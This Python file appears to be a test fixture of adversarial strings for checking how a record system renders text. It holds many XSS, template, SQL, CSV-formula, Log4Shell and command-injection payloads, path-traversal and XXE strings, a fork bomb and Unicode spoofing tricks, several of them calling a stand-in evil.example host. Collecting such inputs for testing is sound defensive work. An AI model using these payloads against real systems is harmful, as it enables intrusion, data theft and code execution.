# SPDX-License-Identifier: Apache-2.0
"""Strings that make trouble where text is taken for something else.  All of
them may stand in a record (spec/text.md); QUERIES may not, but anybody can put
them into an address."""
import unicodedata

# Markup.
MARKUP = r'''
<script>alert(1)</script>
</script><script>alert(1)</script>
<script src=//evil.example/x.js></script>
<ScRiPt>alert(1)</sCrIpT>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script/x>
<script >alert(1)</script >
<script type="application/json">{"a":1}</script>
<script>/*</title><!--*/alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<img src=x:x onerror&#61;alert(1)>
<img """><script>alert(1)</script>">
<image src=x onerror=alert(1)>
<IMG SRC=JaVaScRiPt:alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script xlink:href=data:,alert(1) /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style>@import '//evil.example/x.css';</style></svg>
</svg><script>alert(1)</script>
</text></svg><script>alert(1)</script>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe/onload=alert(1)>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<base href="https://evil.example/">
<link rel=stylesheet href=//evil.example/x.css>
<link rel="prefetch" href="//evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<style>body{display:none}</style>
<style>@import url(//evil.example/x.css)</style>
</style><script>alert(1)</script>
<div style="background:url(javascript:alert(1))">x</div>
<p style="position:fixed;inset:0;background:#fff">covers all</p>
<xss style="behavior:url(xss.htc)">
<form action="https://evil.example/"><input name=q><button>Search</button></form>
<form><button formaction=javascript:alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</option></select><script>alert(1)</script>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<keygen autofocus onfocus=alert(1)>
<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:alert(1) type=image>
<table background="javascript:alert(1)">
<a href="javascript:alert(1)">click</a>
<a href="&#106;avascript:alert(1)">click</a>
<a href="java&#10;script:alert(1)">click</a>
<a href=" javascript:alert(1)">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href="vbscript:msgbox(1)">click</a>
<a href="//evil.example/">click</a>
<a target=_blank href=https://evil.example/ rel=opener>click</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<plaintext>
<xmp><script>alert(1)</script></xmp>
<listing>&lt;img onerror=alert(1) src=x&gt;</listing>
<frameset><frame src="javascript:alert(1)"></frameset>
<!--
--><script>alert(1)</script><!--
--!><script>alert(1)</script>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
]]><script>alert(1)</script>
<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>
<!DOCTYPE html><html><body>another page
<?php echo 1; ?>
<% alert(1) %>
</main></body></html>
</bdi></a></td></tr></table><h1>Outside</h1>
<time datetime="1970-01-01">today</time>
<mark>not a match</mark>
<b>bold</b> <i>italic</i> <u>line</u>
<a id=main name=verify>clobbers</a>
<svg xmlns="http://www.w3.org/2000/svg"><title>x</title></svg>
'''.strip().split("\n")

# Out of an attribute, an entity, a URL.
QUOTES = r'''
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
`-alert(1)-`
"-alert(1)-"
';alert(1)//
\";alert(1)//
</a onmousemove="alert(1)">
"/><a href="javascript:alert(1)
&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;
&lt
&ltscript&gtalert(1)&lt/script&gt
&#60;script&#62;alert(1)
&#x3c;script&#x3e;alert(1)
&NewLine;&Tab;&colon;
&notit; &copy &nbsp;
&&&&&
&;
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253E
%00
%u003cscript%u003e
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://%0aalert(1)
java\tscript:alert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
blob:https://register.example/x
file:///etc/passwd
//evil.example/%2e%2e
\\evil.example\share
/\evil.example
https:evil.example
https://register.example@evil.example/
mailto:a@b.example?bcc=all@evil.example
?q="><script>
#"><img src=x onerror=alert(1)>
../../../../etc/passwd
..%2f..%2fkeys
/p/../r/x
CON.txt
'''.strip().split("\n")

# Polyglots: at once in several places.
POLYGLOTS = r'''
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//>\x3e
'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\></|\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>'-->"></script><script>alert(1)</script>
" onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//
'"<>&%$#@!;:,.?/\|{}[]()*+-=_~^`
"';--></style></script></title></textarea><svg onload=alert(1)>
{{7*7}}${7*7}<%=7*7%>#{7*7}*{7*7}@{7*7}
{{constructor.constructor('alert(1)')()}}
{{ -- no comment -- }}{{ p->name }}
{{ raw "<script>" }}{{ end }}{{ end }}
{% raw %}{% endraw %}{%for c in [1]%}{{c}}{%endfor%}
${jndi:ldap://evil.example/a}
#set($x='')$x.class.forName('java.lang.Runtime')
<%= system('id') %>
[[${7*7}]]
$(id) `id` ;id; |id| &&id
%1 %2 %3 %9 %s %n %x %d %p
%n%n%n%n%s%s%s%s
'''.strip().split("\n")

# Tables, JSON, SQL, headers, mail.
DATA = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","x")',
    "+1+1", "-1+1", "@SUM(1+1)", "=IMPORTXML(\"https://evil.example\",\"/\")",
    "'=1+1", "\"=1+1\"", ";=1+1", "=2+5+cmd|' /C calc'!A0",
    '","', '"",""', 'a,b,"c"', '""', '"', "'", "''", ",,,,", ";;;;",
    '{"a":1}', '","admin":true,"x":"', '\\', '\\\\', '\\"', '\\u0022',
    '\\u003cscript\\u003e', '\\n\\r\\t\\0', '[[[[[[', '}]}]}]', '{"$ref":"#"}',
    "__proto__", "constructor", "null", "undefined", "NaN", "true", "-0",
    "1e400", "9007199254740993", "0x7fffffff", "1/0", "NULL", "(null)",
    "' OR 1=1 --", "'; DROP TABLE entry; --", '" OR ""="', "1; SELECT 1",
    "x' UNION SELECT 1,2,3 --", "%' AND 1=1 AND '%'='", "NEAR(a b)", "a* OR b",
    "Subject: x", "From: keeper", "Set-Cookie: a=b", "HTTP/1.1 200 OK",
    "Content-Length: 0", "comity/act/v1", "Author: aa", "seal 12",
    "c2sp.org/tlog-proof@v1", "register.example/register",
    "-- ", "--help", "-rf /", "~root", "$HOME", "*", "?", "!!", ":(){ :|:& };:",
]
DATA = [s.strip() for s in DATA]

# Characters of the profile that behave oddly.
UNICODE = [
    "\u05e2\u05d1\u05e8\u05d9\u05ea abc \u05e2\u05d1\u05e8\u05d9\u05ea",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 (abc) 123",
    "abc \u2067\u05e9\u05dc\u05d5\u05dd\u2069 def",
    "\u2066x\u2069\u2067y\u2069\u2068z\u2069",
    "\u2068\u2067<script>\u2066alert(1)\u2069\u2069\u2069",
    "\u0639" * 200,
    "e" + "\u0301" * 29 + " combining",
    "a" + "\u0320\u0321\u0322\u0323\u0324\u0325\u0326\u0327" * 3 + "b",
    "Z" + "\u0489" * 20 + "algo",
    "\u0e47" * 20,
    "\ufdfd" * 20,
    "\U00012031" * 30,
    "W" * 3000,
    "i" * 2600,
    ("longword-" * 300).strip("-"),
    "\u202fnarrow\u202f".strip(), "a\u00a0b\u3000c\u2003d",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bcscript\u02bc \u2039script\u203a",
    "\u212aelvin \u0130stanbul \u017ftra\u00dfe \ufb00",
    "\u0661\u0662\u0663 \u0967\u0968 \uff11\uff12",
    "\U0001f469 \U0001f680 \U0001f1e6",
    "\U0001f3fb\U0001f3fc",
    "p\u0430ypal.example", "\u0440\u0435gister.ex\u0430mple",
    "\u1680x\u1680".strip("\u1680"), "\u4e2d\u6587" * 60,
    "\u0600\u06dd\u070f", "\u093f\u0915\u094d\u0937",
    "\u0915\u094d\u200d\u0937", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "\u034e" * 3 + "x", "\u20dd\u20e3x", "\u2044\u2215\u29f8\uff0f",
    "\u201d\u2019\u00ab\u00bb\u301d", "\u037e\u2024\ufe52",
    "x\u2014y \u2014 z", "\u2013 \u2014 \u2015",
]

# More than one line: for bodies.
LINES = [
    "<script>\nalert(1)\n</script>",
    "<!--\n\n-->",
    "# head\n\n- item\n\n> quote\n\n`code`\n\n[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)\n\n<https://evil.example/>",
    "=1+1\n=2+2\n@x",
    "Set-Cookie: a=b\nLocation: https://evil.example/",
    "\u2067a\u2069\n\u2067b\u2069",
]

# What no record can hold: for addresses and forms.
QUERIES = [
    "\u202etxt.exe", "\u202dabc\u202c", "\u200f\u200e", "a\u200bb\u2060c",
    "\ufeffx", "\u2028\u2029", "\u2067open", "\u2069closed", "\ufffe\uffff",
    "\U000e0041\U000e007f", "\ue000", "\u00ad\u034f",
    "a\u0301\u0301" + "\u0301" * 200, "e\u0301",
]


def every():
    """Each once, in NFC."""
    out = []
    for s in MARKUP + QUOTES + POLYGLOTS + DATA + UNICODE + LINES:
        s = unicodedata.normalize("NFC", s)
        if s and s not in out:
            out.append(s)
    return out
